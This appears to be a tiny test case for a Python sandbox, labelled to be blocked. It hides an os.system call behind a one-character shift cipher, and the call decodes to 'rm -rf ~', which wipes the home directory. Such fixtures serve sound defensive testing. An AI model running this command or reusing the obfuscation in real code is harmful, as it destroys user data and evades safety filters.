# expect: BLOCKED
def d(s):
    out = ""
    for c in s:
        out += chr(ord(c) - 1)
    return out
getattr(__import__(d("pt")), d("tztufn"))(d("sn!.sg!\x7f"))
